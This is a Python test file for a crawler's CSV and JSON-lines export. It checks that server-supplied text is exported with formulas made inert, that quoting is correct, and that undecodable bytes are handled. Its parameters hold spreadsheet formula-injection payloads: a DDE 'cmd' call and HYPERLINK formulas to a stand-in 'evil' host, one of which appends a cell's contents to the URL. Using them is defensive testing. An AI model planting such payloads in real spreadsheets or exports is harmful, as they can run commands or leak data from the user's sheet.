"""`crawl export --format csv` of what servers sent: quoting, and formulas kept inert."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from storage import Outcome, Store, download
from storage.export import export_csv, export_jsonl
from storage.records import FetchRecord, RecordLog, read_records
from tests.storage.origin import Body, Origin, Resource


def csv_rows(out_dir: Path) -> list[dict[str, str]]:
    text = io.StringIO()
    export_csv(out_dir, text)
    return list(csv.DictReader(io.StringIO(text.getvalue())))


def jsonl_rows(out_dir: Path) -> list[dict[str, object]]:
    text = io.StringIO()
    export_jsonl(out_dir, text)
    return [json.loads(line) for line in text.getvalue().splitlines()]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/","click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_is_exported_inert(tmp_path: Path, text: str):
    with RecordLog(tmp_path, "w") as log:
        log.append(FetchRecord(url="http://h/a", final_url=text, error=text, content_type=text))
    row = csv_rows(tmp_path)[0]
    assert row["final_url"] == row["error"] == row["content_type"] == "'" + text
    assert jsonl_rows(tmp_path)[0]["content_type"] == text  # JSON lines keep it as it is


def test_csv_cells_with_commas_quotes_and_newlines_read_back_whole(tmp_path: Path):
    url = 'http://h/a,b"c\nd?q=1'
    error = 'ValueError: "x", then\r\ny'
    with RecordLog(tmp_path, "w") as log:
        log.append(FetchRecord(url=url, error=error, size=-1 + 2, outcome=Outcome.FAILED))
    row = csv_rows(tmp_path)[0]
    assert row["url"] == url and row["error"] == error and row["size"] == "1"
    assert row["outcome"] == "failed" and row["status"] == ""


async def test_a_content_type_from_the_server_is_not_a_formula_in_csv(
    session, origin: Origin, out_dir: Path
):
    hostile = '=HYPERLINK("http://evil/?"&A1,"open")'
    origin.resources["/f"] = Resource(Body(100), extra_headers=[("Content-Type", hostile)])
    with Store(out_dir, writer_id="t") as store:
        record = await download(session, origin.url("/f"), store)
    assert record.outcome is Outcome.STORED and record.content_type == hostile
    assert csv_rows(out_dir)[0]["content_type"] == "'" + hostile


def test_a_record_with_undecodable_text_is_written_with_it_shown(tmp_path: Path):
    bad = b"caf\xe9".decode("utf-8", "surrogateescape")
    with RecordLog(tmp_path, "w") as log:
        log.append(FetchRecord(url=f"http://h/{bad}", headers=[("X-" + bad, bad)], meta={bad: bad}))
        log.append(FetchRecord(url="http://h/next"))  # the packer is still good after it
    first, second = read_records(tmp_path)
    assert first.url == "http://h/caf\\xe9"
    assert first.headers == [("X-caf\\xe9", "caf\\xe9")] and first.meta == {"caf\\xe9": "caf\\xe9"}
    assert second.url == "http://h/next"
